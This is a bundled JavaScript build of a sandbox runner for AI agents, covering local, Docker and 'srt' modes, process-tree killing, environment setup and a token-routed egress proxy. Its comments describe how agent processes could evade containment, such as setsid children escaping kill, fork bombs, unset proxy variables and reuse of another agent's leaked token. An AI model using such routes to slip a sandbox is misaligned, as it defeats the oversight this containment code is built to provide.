var ca_bundle = __webpack_require__(8175);
// EXTERNAL MODULE: ./src/lib/user.ts
var user = __webpack_require__(89332);
;// CONCATENATED MODULE: ./src/run/plan.ts
// The plan a run (or verify-isolation) works from: the config loaded and, when asked, narrowed to
// some agents. One place for both, so `--agents` means the same everywhere.







/**
 * The plan, narrowed to the selected agents, with every unsafe setting of theirs refused unless
 * the invoker allowed its class (a ConfigError, exit 2, naming each key).
 */
async function loadRunPlan(configPath, opts = {}) {
    const plan = selectAgents(await loadConfigFrom(configPath, {
        workingDirectory: opts.workingDirectory,
        defaultTimeoutSec: opts.defaultTimeoutSec,
        configRef: opts.configRef
    }), opts.agents);
    const warnings = (0,unsafe/* refuseUnsafe */.H_)(plan, {
        allow: opts.allowUnsafe ?? [],
        surface: opts.surface ?? 'cli'
    });
    for (const line of warnings)
        opts.log?.(line);
    return withCaCertificates(plan, opts.caCertificates);
}
/** The run's CA list added to every docker and srt agent's (local mode has no sandbox). */
function withCaCertificates(plan, run) {
    if (!run?.length)
        return plan;
    return {
        ...plan,
        agents: plan.agents.map((a) => a.mode === 'local' ? a : { ...a, caCertificates: (0,ca_bundle/* mergeCaEntries */.to)(a.caCertificates, run) })
    };
}
function selectAgents(plan, ids) {
    if (!ids || ids.length === 0)
        return plan;
    const known = plan.agents.map((a) => a.id);
    const unknown = ids.filter((id) => !known.includes(id));
    if (unknown.length) {
        throw new errors/* UsageError */.eb(`unknown agent(s): ${unknown.join(', ')} (the config has: ${known.join(', ')})`);
    }
    return { ...plan, agents: plan.agents.filter((a) => ids.includes(a.id)) };
}
/**
 * MassGen creates the workspace and the temporary workspace when missing; so do we. A workspace
 * this run creates is its own, not the user's: created by root for a sandboxed agent, it is made
 * the agent's (the images' user, or command_line_docker_user when not root), as if the agent had
 * created it. An existing one is never touched (the agent follows its owner instead).
 */
async function prepareWorkspace(agent, euid = process.geteuid?.()) {
    const created = await (0,promises_.mkdir)(agent.workspace, { recursive: true });
    if (agent.tempWorkspace)
        await (0,promises_.mkdir)(agent.tempWorkspace, { recursive: true });
    if (created === undefined || euid !== 0 || agent.mode === 'local')
        return;
    const { uid, gid } = (0,user/* parseUser */.tN)(agent.docker?.user ?? defaults/* DEFAULT_USER */.Az);
    if (uid !== 0)
        await (0,promises_.chown)(agent.workspace, uid, gid);
}


/***/ }),

/***/ 80808:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  F: () => (/* binding */ newRunId),
  G: () => (/* binding */ withSandboxes)
});

// EXTERNAL MODULE: external "node:crypto"
var external_node_crypto_ = __webpack_require__(77598);
// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
// EXTERNAL MODULE: ./src/report/files.ts
var files = __webpack_require__(50561);
// EXTERNAL MODULE: ./src/report/redact.ts
var redact = __webpack_require__(20649);
// EXTERNAL MODULE: ./src/report/write.ts
var write = __webpack_require__(1693);
// EXTERNAL MODULE: external "node:child_process"
var external_node_child_process_ = __webpack_require__(31421);
// EXTERNAL MODULE: external "node:fs/promises"
var promises_ = __webpack_require__(51455);
// EXTERNAL MODULE: ./src/runtime/file-lines.ts
var file_lines = __webpack_require__(86214);
// EXTERNAL MODULE: ./src/runtime/host/background.ts
var background = __webpack_require__(55579);
// EXTERNAL MODULE: ./src/runtime/host/environment.ts
var environment = __webpack_require__(81830);
// EXTERNAL MODULE: ./src/runtime/host/process.ts
var host_process = __webpack_require__(55638);
// EXTERNAL MODULE: ./src/runtime/host/process-tree.ts
var process_tree = __webpack_require__(49187);
;// CONCATENATED MODULE: ./src/runtime/local/executor.ts
// Local mode: `/bin/sh -c` on the host, in the agent's directory, with a minimal environment.
// No isolation at all: the README says so, and docker mode is never replaced by this silently.
// A thin session on the host-process runtime (runtime/host): spawning is all it does itself.










class LocalSession {
    agent;
    info = { mode: 'local' };
    background = new background/* HostBackground */.b();
    constructor(agent) {
        this.agent = agent;
    }
    async exec(req) {
        const started = Date.now();
        const { child, token } = this.spawnStep(req);
        const end = await (0,host_process/* runHostStep */.Ox)(child, req, () => (0,process_tree/* killTree */.TP)(child.pid, token), started);
        if (end.exit.error)
            throw end.exit.error;
        return (0,host_process/* hostResult */.YW)(end);
    }
    async execBackground(req, name) {
        const { child, token } = this.spawnStep(req);
        this.background.add(name, req.command, child, req.maxOutputBytes, () => (0,process_tree/* killTree */.TP)(child.pid, token));
    }
    /** `/bin/sh -c` with the step's environment and a fresh token (see host/process-tree.ts). */
    spawnStep(req) {
        const token = (0,external_node_crypto_.randomUUID)();
        const prepared = (0,environment/* prepareCommand */.fN)(this.agent, req.command, req.cwd, {
            ...(0,environment/* baseEnvironment */.PZ)(),
            ...req.env
        });
        // detached: the shell leads a new process group, so the group can be killed as one.
        const child = (0,external_node_child_process_.spawn)('/bin/sh', ['-c', prepared.command], {
            cwd: req.cwd,
            env: { ...prepared.env, [process_tree/* TOKEN_VAR */.ey]: token },
            detached: true,
            stdio: ['ignore', 'pipe', 'pipe']
        });
        return { child, token };
    }
    async writeFile(path, content) {
        await (0,promises_.mkdir)((0,external_node_path_.dirname)(path), { recursive: true });
        await (0,promises_.writeFile)(path, content);
    }
    async readFile(path, offset, lineCount) {
        return (0,file_lines/* sliceLines */.i)(await (0,promises_.readFile)(path, 'utf8'), offset, lineCount);
    }
    async saveLogs(dir) {
        await this.background.writeLogs(dir);
    }
    /** Local mode has no egress of its own: nothing to switch. */
    beginStep() { }
    egressReport() {
        return undefined;
    }
    async close() {
        await this.background.stop();
    }
}
function createLocalRuntime() {
    return {
        async start(agent) {
            await (0,promises_.mkdir)(agent.workspace, { recursive: true });
            return new LocalSession(agent);
        }
    };
}

;// CONCATENATED MODULE: ./src/run/runtimes.ts

class Runtimes {
    opts;
    local = createLocalRuntime();
    docker;
    srt;
    constructor(opts) {
        this.opts = opts;
    }
    /** The Docker runtime itself (verify-isolation needs its engine client). */
    dockerRuntime() {
        return (this.docker ??= Promise.resolve(/* import() */).then(__webpack_require__.bind(__webpack_require__, 21002)).then((m) => m.createDockerRuntime({
            imagePolicy: this.opts.imagePolicy,
            log: this.opts.log,
            client: this.opts.dockerClient,
            egressResolve: this.opts.egressResolve,
            imageSources: this.opts.imageSources,
            onImage: this.opts.onImage
        })));
    }
    for(mode) {
        if (mode === 'local')
            return this.local;
        if (mode === 'srt')
            return {
                start: async (agent, ctx) => (await (this.srt ??= Promise.resolve(/* import() */).then(__webpack_require__.bind(__webpack_require__, 2365)).then((m) => m.createSrtRuntime(this.opts.srt)))).start(agent, ctx)
            };
        return {
            start: async (agent, ctx) => (await this.dockerRuntime()).start(agent, ctx)
        };
    }
    /** Removes what every runtime made created for the run (idempotent). */
    async cleanup(runId) {
        if (this.docker)
            await (await this.docker).cleanup?.(runId);
        if (this.srt)
            await (await this.srt).cleanup?.(runId);
    }
}

;// CONCATENATED MODULE: ./src/run/scope.ts
// The one sandbox lifecycle `run`, `mcp` and `verify-isolation` live in: the run id, the output
// directory, the redactor every line and file goes through, the runtimes (made on first use),
// SIGINT/SIGTERM, closing what was opened, cleaning up what the runtimes made for the run, and the
// final redaction of everything under the output directory. What differs (a Run's steps, a live
// MCP server, the isolation probes) is the body's.






function newRunId() {
    return `${Date.now().toString(36)}-${(0,external_node_crypto_.randomBytes)(3).toString('hex')}`;
}
/** Runs `body` in a sandbox scope; whatever happens, the scope is closed and the output redacted. */
async function withSandboxes(opts, body) {
    const scope = new Scope(opts);
    const onSignal = (sig) => void scope.interrupt(sig);
    if (opts.handleSignals) {
        process.once('SIGINT', onSignal);
        process.once('SIGTERM', onSignal);
    }
    try {
        return await body(scope);
    }
    finally {
        await scope.close();
        if (opts.handleSignals) {
            process.off('SIGINT', onSignal);
            process.off('SIGTERM', onSignal);
        }
        await scope.redactOutput();
    }
}
class Scope {
    runId;
    outDir;
    redactor = new redact/* Redactor */.pO();
    log;
    made;
    undo = [];
    recorders = [];
    closing;
    constructor(opts) {
        this.runId = opts.runId ?? newRunId();
        this.outDir = (0,external_node_path_.resolve)(opts.outDir);
        // Every console line goes through the redactor too (live step lines, egress, cleanup).
        this.log = (line) => opts.log(this.redactor.apply(line));
        (0,write/* ensureOutputDir */.X)(this.outDir);
    }
    runtimes(opts) {
        if (this.made)
            return this.made;
        const made = new Runtimes({ ...opts, log: this.log });
        this.made = made;
        this.defer(() => made.cleanup(this.runId));
        return made;
    }
    defer(undo) {
        this.undo.push(undo);
    }
    onInterrupt(record) {
        this.recorders.push(record);
    }
    close() {
        return (this.closing ??= (async () => {
            for (const undo of [...this.undo].reverse())
                await undo().catch((e) => this.log(`cleanup: ${e.message}`));
        })());
    }
    redactOutput() {
        return (0,files/* redactTree */.us)(this.outDir, (s) => this.redactor.apply(s)).catch(() => undefined);
    }
    async interrupt(sig) {
        this.log(`received ${sig}: stopping, cleaning up`);
        const record = () => {
            for (const r of this.recorders)
                r(sig);
        };
        record();
        await this.close()
            .then(() => this.redactOutput())
            .catch(() => undefined);
        record();
        // A signalled run always ends as an error (exit 2), as results.json says.
        process.exit(2);
    }
}


/***/ }),

/***/ 86214:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   i: () => (/* binding */ sliceLines)
/* harmony export */ });
// read_file's window: `lineCount` lines (all when undefined) after skipping `offset` lines, as
// MassGen's read_file(path, offset=0, line_count=None). Shared by every runtime so the result does
// not depend on the mode.
function sliceLines(text, offset, lineCount) {
    const lines = text.split('\n');
    // A trailing newline ends the last line; it does not start another.
    if (lines.length > 0 && lines[lines.length - 1] === '')
        lines.pop();
    const start = Math.max(0, offset);
    const end = lineCount === undefined ? lines.length : start + lineCount;
    const picked = lines.slice(start, end);
    return picked.length ? picked.join('\n') + '\n' : '';
}


/***/ }),

/***/ 55579:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   b: () => (/* binding */ HostBackground)
/* harmony export */ });
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(51455);
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_fs_promises__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var _lib_output_cap_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(25659);
/* harmony import */ var _background_log_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(28032);
/* harmony import */ var _process_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(55638);
// Background steps as host processes (local and srt modes): their output kept (capped, per stream)
// while later steps run; stopped — their whole tree killed — at saveLogs or close, whichever comes
// first; logged in the one layout (background-log.ts).




/** How long a killed background process is given to close its pipes. */
const STOP_WAIT_MS = 2000;
class HostBackground {
    list = [];
    /** Keeps `child`'s output from now on; `kill` ends its tree at stop(). */
    add(name, command, child, maxOutputBytes, kill) {
        const startedAt = new Date();
        const p = {
            name,
            command,
            startedAt,
            stdout: new _lib_output_cap_js__WEBPACK_IMPORTED_MODULE_2__/* .OutputCap */ .uu(maxOutputBytes),
            stderr: new _lib_output_cap_js__WEBPACK_IMPORTED_MODULE_2__/* .OutputCap */ .uu(maxOutputBytes),
            kill,
            done: Promise.resolve()
        };
        child.stdout.on('data', (c) => p.stdout.push(c));
        child.stderr.on('data', (c) => p.stderr.push(c));
        p.done = (0,_process_js__WEBPACK_IMPORTED_MODULE_3__/* .exitOf */ .sX)(child).then((exit) => {
            if (exit.error)
                p.error = exit.error.message;
            else
                p.result = {
                    exitCode: exit.code,
                    durationMs: Date.now() - startedAt.getTime(),
                    truncated: p.stdout.truncated || p.stderr.truncated
                };
        });
        this.list.push(p);
    }
    get size() {
        return this.list.length;
    }
    /** Kills every background process (each once, however often this is called) and waits a little. */
    async stop() {
        await Promise.all(this.list.map((p) => {
            p.stopping ??= (async () => {
                await p.kill();
                let timer;
                const waited = new Promise((r) => (timer = setTimeout(r, STOP_WAIT_MS)));
                await Promise.race([p.done, waited]);
                clearTimeout(timer);
            })();
            return p.stopping;
        }));
    }
    /** Stops them all, then writes background_<name>.log per process into `dir`. */
    async writeLogs(dir) {
        if (this.list.length === 0)
            return;
        await this.stop();
        await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.mkdir)(dir, { recursive: true });
        const entries = this.list.map(({ stdout, stderr, kill: _kill, done: _done, ...p }) => ({
            ...p,
            stdout: stdout.text(),
            stderr: stderr.text()
        }));
        await (0,_background_log_js__WEBPACK_IMPORTED_MODULE_1__/* .writeBackgroundLogs */ .$Y)(dir, entries);
    }
}


/***/ }),

/***/ 81830:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   PZ: () => (/* binding */ baseEnvironment),
/* harmony export */   fN: () => (/* binding */ prepareCommand)
/* harmony export */ });
/* unused harmony export PASSED_HOST_VARS */
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(73024);
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_fs__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(76760);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_path__WEBPACK_IMPORTED_MODULE_1__);
// The environment a host-process step (local and srt modes) starts from, and MassGen's venv rule.


/** Host variables a host-process step may see (MassGen's MCP default environment, roughly). */
const PASSED_HOST_VARS = ['HOME', 'PATH', 'LANG', 'TERM', 'USER'];
function baseEnvironment(hostEnv = process.env) {
    const env = {};
    for (const k of PASSED_HOST_VARS)
        if (hostEnv[k] !== undefined)
            env[k] = hostEnv[k];
    env.PATH ??= '/usr/local/bin:/usr/bin:/bin';
    return env;
}
/**
 * The environment and command line MassGen would run: an explicit venv, else `<cwd>/.venv`,
 * goes first on PATH with VIRTUAL_ENV set; a command prefix ("uv run") wins over both.
 */
function prepareCommand(agent, command, cwd, env) {
    if (agent.commandPrefix)
        return { command: `${agent.commandPrefix} ${command}`, env };
    const venv = agent.venvPath ?? ((0,node_fs__WEBPACK_IMPORTED_MODULE_0__.existsSync)((0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(cwd, '.venv', 'bin')) ? (0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(cwd, '.venv') : '');
    if (!venv)
        return { command, env };
    return {
        command,
        env: { ...env, VIRTUAL_ENV: venv, PATH: `${(0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(venv, 'bin')}:${env.PATH ?? ''}` }
    };
}


/***/ }),

/***/ 49187:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   TP: () => (/* binding */ killTree),
/* harmony export */   We: () => (/* binding */ pidsWithToken),
/* harmony export */   ey: () => (/* binding */ TOKEN_VAR)
/* harmony export */ });
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(51455);
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_fs_promises__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var _procfs_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(25481);
// Killing everything a local command started. A process group covers ordinary `cmd &`
// children, but `setsid`/`nohup setsid` children leave the group; every descendant still
// inherits the environment, so each step carries a unique token variable and leftovers are found
// by scanning /proc/<pid>/environ for it.


const TOKEN_VAR = 'MASSGEN_EXEC_STEP';
/** Pids (other than ours) whose environment holds TOKEN_VAR=token. Linux only; [] elsewhere. */
async function pidsWithToken(token) {
    // The token is a random UUID, so a plain substring match cannot hit another variable.
    const needle = Buffer.from(`${TOKEN_VAR}=${token}`);
    const found = [];
    await Promise.all((await (0,_procfs_js__WEBPACK_IMPORTED_MODULE_1__/* .otherPids */ .Z)()).map(async (pid) => {
        try {
            const env = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.readFile)(`/proc/${pid}/environ`);
            if (env.includes(needle))
                found.push(pid);
        }
        catch {
            // Gone, or not ours to read.
        }
    }));
    return found;
}
function signal(pid, sig) {
    try {
        process.kill(pid, sig);
    }
    catch {
        // Already gone.
    }
}
/**
 * SIGKILLs the process group `pgid` and every process carrying the token, repeating until none
 * is left (a fork bomb keeps forking between scans). Returns the pids still alive after the
 * last round (normally none).
 */
async function killTree(pgid, token, rounds = 20) {
    for (let i = 0; i < rounds; i++) {
        if (pgid)
            signal(-pgid, 'SIGKILL');
        const left = await pidsWithToken(token);
        if (left.length === 0)
            return [];
        for (const pid of left)
            signal(pid, 'SIGKILL');
        await new Promise((r) => setTimeout(r, 20));
    }
    return pidsWithToken(token);
}


/***/ }),

/***/ 55638:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Ox: () => (/* binding */ runHostStep),
/* harmony export */   P5: () => (/* binding */ streamClosed),
/* harmony export */   YW: () => (/* binding */ hostResult),
/* harmony export */   sX: () => (/* binding */ exitOf)
/* harmony export */ });
/* harmony import */ var _lib_output_cap_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(25659);

/** Never rejects: a child that could not start resolves with its error. */
function exitOf(child) {
    return new Promise((resolve) => {
        if (child.exitCode !== null || child.signalCode !== null)
            return resolve({ code: child.exitCode });
        child.once('error', (error) => resolve({ code: null, error }));
        child.once('exit', (code) => resolve({ code }));
    });
}
/** Resolves when the stream has closed (or failed): all its data has been read. */
function streamClosed(s) {
    if (s.closed)
        return Promise.resolve();
    return new Promise((resolve) => {
        s.once('close', () => resolve());
        s.once('error', () => resolve());
    });
}
/**
 * Runs `child` to its end. `kill` ends the step's whole tree and returns the pids it could not
 * kill; it runs at the timeout or abort, and always once the shell has exited: whatever the step
 * left running (`server &` without background: true) dies with it, else it would hold the pipes
 * open and outlive the run.
 */
async function runHostStep(child, req, kill, startedAt = Date.now()) {
    const { stdout, stderr } = (0,_lib_output_cap_js__WEBPACK_IMPORTED_MODULE_0__/* .captureOutput */ .Q9)(child, req.maxOutputBytes, req.onOutput);
    let timedOut = false;
    const exited = exitOf(child);
    const stop = () => {
        timedOut = true;
        void kill();
    };
    const timer = setTimeout(stop, req.timeoutMs);
    req.signal?.addEventListener('abort', stop, { once: true });
    if (req.signal?.aborted)
        stop();
    let exit;
    try {
        exit = await exited;
    }
    finally {
        clearTimeout(timer);
        req.signal?.removeEventListener('abort', stop);
    }
    const survivors = await kill();
    await Promise.all([streamClosed(child.stdout), streamClosed(child.stderr)]);
    return {
        exit,
        stdout: stdout.text(),
        stderr: stderr.text(),
        truncated: stdout.truncated || stderr.truncated,
        timedOut,
        survivors,
        startedAt
    };
}
/** The step's result; `notes` are joined after the survivors' note, empty ones dropped. */
function hostResult(end, notes = [], extra = {}) {
    const all = [
        end.survivors.length
            ? `${end.survivors.length} process(es) of the step could not be killed`
            : '',
        ...notes
    ].filter(Boolean);
    return {
        exitCode: end.exit.code,
        stdout: end.stdout,
        stderr: end.stderr,
        truncated: end.truncated,
        timedOut: end.timedOut,
        oom: false,
        durationMs: Date.now() - end.startedAt,
        note: all.length ? all.join('; ') : undefined,
        ...extra
    };
}


/***/ }),

/***/ 25481:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Z: () => (/* binding */ otherPids)
/* harmony export */ });
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(51455);
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_fs_promises__WEBPACK_IMPORTED_MODULE_0__);
// Walking the host's /proc, for the runtimes that kill a step's processes on the host (local mode,
// srt): every pid but this process's own. Linux only; [] where there is no /proc.

async function otherPids() {
    let entries;
    try {
        entries = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.readdir)('/proc');
    }
    catch {
        return [];
    }
    return entries.map(Number).filter((pid) => Number.isInteger(pid) && pid !== process.pid);
}


/***/ }),

/***/ 2365:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

// ESM COMPAT FLAG
__webpack_require__.r(__webpack_exports__);

// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  LIBRARY_BACKEND: () => (/* binding */ LIBRARY_BACKEND),
  SRT_DEFAULTS: () => (/* binding */ SRT_DEFAULTS),
  SrtSession: () => (/* reexport */ SrtSession),
  createSrtRuntime: () => (/* binding */ createSrtRuntime),
  sandboxUser: () => (/* binding */ sandboxUser)
});

// EXTERNAL MODULE: external "node:child_process"
var external_node_child_process_ = __webpack_require__(31421);
// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __webpack_require__(73024);
// EXTERNAL MODULE: external "node:fs/promises"
var promises_ = __webpack_require__(51455);
// EXTERNAL MODULE: external "node:os"
var external_node_os_ = __webpack_require__(48161);
// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
// EXTERNAL MODULE: ./src/config/defaults.ts
var defaults = __webpack_require__(31954);
// EXTERNAL MODULE: ./src/errors.ts
var errors = __webpack_require__(83916);
// EXTERNAL MODULE: ./src/runtime/ca-bundle.ts
var ca_bundle = __webpack_require__(8175);
// EXTERNAL MODULE: ./src/runtime/egress/index.ts + 9 modules
var egress = __webpack_require__(94323);
// EXTERNAL MODULE: ./src/runtime/workspace-owner.ts
var workspace_owner = __webpack_require__(89447);
// EXTERNAL MODULE: ./node_modules/@anthropic-ai/sandbox-runtime/dist/index.js + 31 modules
var dist = __webpack_require__(48085);
// EXTERNAL MODULE: external "node:module"
var external_node_module_ = __webpack_require__(98995);
// EXTERNAL MODULE: external "node:url"
var external_node_url_ = __webpack_require__(73136);
;// CONCATENATED MODULE: ./src/runtime/srt/deps.ts
// What srt mode needs from the host, checked before anything starts: Linux or macOS, and on Linux
// bubblewrap, socat and ripgrep on PATH plus sandbox-runtime's seccomp helper for this CPU. A
// missing piece is an EnvironmentError (exit 2) that names it and the install line; srt never
// falls back to local execution.





/** Tool → Debian/Ubuntu package. */
const LINUX_TOOLS = {
    bwrap: 'bubblewrap',
    socat: 'socat',
    rg: 'ripgrep'
};
const INSTALL_HINT = 'install them with `sudo bash scripts/srt-deps.sh` from the action (Debian/Ubuntu), or ' +
    '`sudo apt-get install -y bubblewrap socat ripgrep`';
/** The first executable `name` on `path`, or undefined. */
function which(name, path = process.env.PATH ?? '') {
    for (const dir of path.split(external_node_path_.delimiter)) {
        if (!dir)
            continue;
        const p = (0,external_node_path_.join)(dir, name);
        try {
            (0,external_node_fs_.accessSync)(p, external_node_fs_.constants.X_OK);
            return p;
        }
        catch {
            // not here
        }
    }
    return undefined;
}
/** Throws an EnvironmentError naming every missing tool (with its package) or the platform. */
function checkHostTools(host = { platform: process.platform, which: (n) => which(n) }) {
    if (host.platform === 'darwin') {
        if (!host.which('rg'))
            throw new errors/* EnvironmentError */.eG('srt mode needs ripgrep (rg) on PATH, which is missing', 'install it with `brew install ripgrep`');
        return;
    }
    if (host.platform !== 'linux')
        throw new errors/* EnvironmentError */.eG(`srt mode runs on Linux and macOS, not on ${host.platform}`, 'use command_line_execution_mode: docker here');
    const missing = Object.keys(LINUX_TOOLS).filter((t) => !host.which(t));
    if (missing.length)
        throw new errors/* EnvironmentError */.eG(`srt mode needs bubblewrap, socat and ripgrep on PATH; missing: ${missing
            .map((t) => `${t} (package ${LINUX_TOOLS[t]})`)
            .join(', ')}`, INSTALL_HINT);
}
/** Ubuntu's (23.10+) AppArmor switch that keeps unprivileged processes out of user namespaces. */
const USERNS_RESTRICTION = '/proc/sys/kernel/apparmor_restrict_unprivileged_userns';
/**
 * bubblewrap needs an unprivileged user namespace (a root runner's commands run as 1000:1000 too),
 * which `kernel.apparmor_restrict_unprivileged_userns=1` forbids (GitHub-hosted ubuntu-24.04):
 * refused before anything starts, naming the setting and the fix. A kernel without the setting
 * has no such restriction.
 */
function checkUserNamespaces(sysctl = USERNS_RESTRICTION) {
    let value;
    try {
        value = (0,external_node_fs_.readFileSync)(sysctl, 'utf8').trim();
    }
    catch {
        return;
    }
    if (value !== '0')
        throw new errors/* EnvironmentError */.eG(`srt mode needs unprivileged user namespaces for bubblewrap, and AppArmor restricts them here (kernel.apparmor_restrict_unprivileged_userns=${value})`, 'lift it with `sudo sysctl -w kernel.apparmor_restrict_unprivileged_userns=0` (scripts/srt-deps.sh does, as codex-action and claude-code-action do), or use command_line_execution_mode: docker');
}
const ARCH = { x64: 'x64', arm64: 'arm64' };
/**
 * sandbox-runtime's `apply-seccomp` helper (it blocks Unix sockets and nested namespaces inside
 * the sandbox). In the ncc bundle it sits in dist/vendor/ (scripts/bundle.mjs copies it there);
 * from source, in the package. Passed to the library explicitly, so it never falls back to
 * `npm root -g` or runs without it.
 */
function locateSeccompHelper(arch = process.arch) {
    const a = ARCH[arch];
    if (!a)
        throw new errors/* EnvironmentError */.eG(`srt mode has no seccomp helper for the ${arch} CPU (sandbox-runtime ships x64 and arm64)`, 'use command_line_execution_mode: docker here');
    const rel = (0,external_node_path_.join)('vendor', 'seccomp', a, 'apply-seccomp');
    const here = (0,external_node_path_.dirname)((0,external_node_url_.fileURLToPath)(import.meta.url));
    const tried = [(0,external_node_path_.join)(here, rel), (0,external_node_path_.join)(here, '..', rel)];
    try {
        const pkg = (0,external_node_module_.createRequire)(import.meta.url).resolve('@anthropic-ai/sandbox-runtime');
        tried.push((0,external_node_path_.join)((0,external_node_path_.dirname)(pkg), '..', rel));
    }
    catch {
        // bundled without node_modules: the dist/ copies above are the ones
    }
    const found = tried.find((p) => (0,external_node_fs_.existsSync)(p));
    if (!found)
        throw new errors/* EnvironmentError */.eG(`sandbox-runtime's seccomp helper is missing (looked in ${tried.join(', ')})`, 'rebuild the bundle with `npm run build`, which copies node_modules/@anthropic-ai/sandbox-runtime/vendor/seccomp into dist/vendor');
    return found;
}

// EXTERNAL MODULE: external "node:net"
var external_node_net_ = __webpack_require__(77030);
;// CONCATENATED MODULE: ./src/runtime/srt/network.ts
// How srt sandboxes reach the network: through the shared egress model (runtime/egress), one
// EgressProxy per agent, behind one front per process.
//
// On Linux a sandbox has no network of its own (bubblewrap --unshare-net: loopback only); its only
// way out is sandbox-runtime's bridge: a socat in the sandbox on 127.0.0.1:3128 (and :1080), a
// Unix socket bound into it, a socat on the host that dials one TCP port. That port is fixed
// process-wide at SandboxManager.initialize() (`network.httpProxyPort`/`socksProxyPort`), and the
// library's own proxy (with per-command lists and an ask callback that gets only host and port)
// cannot tell agents apart nor report what it allowed. So the library starts no proxy of its own
// (both ports external, allowedDomains and deniedDomains empty) and its bridge ends here, at the
// front, which tells agents apart by a credential:
//
// - each srt agent with egress gets a random token and its own EgressProxy (its policy, its step,
//   its event log) that listens nowhere and requires that token on every request;
// - the session points the sandbox's proxy variables at http://srt:<token>@127.0.0.1:3128, so the
//   usual clients send `Proxy-Authorization: Basic` with it;
// - the front reads the head of a connection's first request, finds the proxy whose token it
//   carries and hands the connection over, unread bytes and all. A request without a known token
//   (an agent without egress, or variables changed by the agent) is refused here with 403.
//
// The token is an attribution, not the boundary: the topology is (no route but the bridge). A
// process that learns another agent's token (say, from a file that agent wrote its environment
// into) gets that agent's allowlist, never more than the config grants some agent.


/** The port sandbox-runtime's in-sandbox socat listens on for HTTP (a constant of the library). */
const SANDBOX_PROXY_PORT = 3128;
/** The Basic user name in the proxy URL (the library's own; only the password is checked). */
const PROXY_USER = 'srt';
/** A request head larger than this is refused (431) before any agent sees it. */
const MAX_HEAD_BYTES = 64 * 1024;
/** A client that sends no complete request head in this time is dropped. */
const HEAD_TIMEOUT_MS = 30_000;
/** The variable the session passes the proxy URL in (kept out of the command line). */
const PROXY_URL_VAR = 'MASSGEN_EGRESS_PROXY';
/**
 * Variables that point the usual clients at the proxy with the agent's credential, set again in
 * front of each command (sandbox-runtime sets them without one). Convenience only: unsetting them
 * opens nothing, it only makes requests fail.
 */
const PROXY_URL_VARIABLES = [
    'HTTP_PROXY',
    'HTTPS_PROXY',
    'http_proxy',
    'https_proxy',
    'ALL_PROXY',
    'all_proxy',
    'GRPC_PROXY',
    'grpc_proxy',
    'npm_config_proxy',
    'npm_config_https_proxy',
    'YARN_HTTP_PROXY',
    'YARN_HTTPS_PROXY'
];
/** As in docker mode: only the sandbox's own loopback is reached directly. */
const NO_PROXY = 'localhost,127.0.0.1,::1';
function proxyUrl(token) {
    return `http://${PROXY_USER}:${token}@127.0.0.1:${SANDBOX_PROXY_PORT}`;
}
/** One shell line run in the sandbox before the command: the variables from PROXY_URL_VAR. */
function proxyExports() {
    const v = `"$${PROXY_URL_VAR}"`;
    return (`export ${PROXY_URL_VARIABLES.map((n) => `${n}=${v}`).join(' ')} NODE_USE_ENV_PROXY=1 ` +
        // The library's list also names private ranges, which the allowlist may open.
        `NO_PROXY=${NO_PROXY} no_proxy=${NO_PROXY}; ` +
        `unset ${PROXY_URL_VAR};`);
}
/** What the front does with a connection whose first request head is `head` (up to CRLFCRLF). */
function routeRequest(head, known) {
    const [line = '', ...fields] = head.split('\r\n');
    const target = /^[A-Z]+ (\S+) HTTP\/\d(?:\.\d)?$/.exec(line)?.[1];
    if (!target)
        return {
            kind: 'refuse',
            status: 400,
            rule: 'bad-request',
